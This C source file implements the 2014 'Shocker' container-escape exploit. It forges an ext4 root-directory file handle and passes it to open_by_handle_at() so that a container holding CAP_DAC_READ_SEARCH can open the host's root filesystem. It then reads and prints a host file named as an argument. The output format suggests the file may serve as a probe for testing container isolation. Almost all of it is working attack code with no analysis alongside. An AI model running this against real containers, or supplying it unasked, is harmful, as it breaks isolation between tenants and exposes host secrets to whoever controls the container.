/* The "Shocker" attack (2014): with CAP_DAC_READ_SEARCH, open_by_handle_at() opens any inode of a
 * filesystem that a file inside the container lives on, by number, whatever the mount namespace shows.
 * Guessing the root directory's handle (inode 2, generation 0 on ext2/3/4) opens the host's /.
 *
 * usage: shocker FILE_ON_HOST_FS SECRET_PATH
 * Prints "HANDLE ok|error", "ROOT opened|error" and, if the host root was reached, "SECRET data". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: shocker FILE_ON_HOST_FS SECRET_PATH\n");
        return 2;
    }
    int mfd = open(argv[1], O_RDONLY);
    if (mfd < 0) {
        printf("MOUNTFD %s\n", strerror(errno));
        return 0;
    }
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(mfd, "", h, &mount_id, AT_EMPTY_PATH) == 0)
        printf("HANDLE ok type=%d bytes=%u\n", h->handle_type, h->handle_bytes);
    else
        printf("HANDLE %s\n", strerror(errno));
    /* The root directory of an ext4 filesystem: FILEID_INO32_GEN, inode 2, generation 0. */
    h->handle_type = 1;
    h->handle_bytes = 8;
    unsigned int root[2] = {2, 0};
    memcpy(h->f_handle, root, sizeof root);
    int rfd = open_by_handle_at(mfd, h, O_RDONLY | O_DIRECTORY);
    if (rfd < 0) {
        printf("ROOT %s\n", strerror(errno));
        return 0;
    }
    printf("ROOT opened\n");
    int s = openat(rfd, argv[2] + 1, O_RDONLY);
    if (s >= 0) {
        char buf[256];
        ssize_t n = read(s, buf, sizeof buf - 1);
        buf[n > 0 ? n : 0] = 0;
        printf("SECRET %s\n", buf);
    } else {
        printf("SECRET-OPEN %s\n", strerror(errno));
    }
    return 0;
}
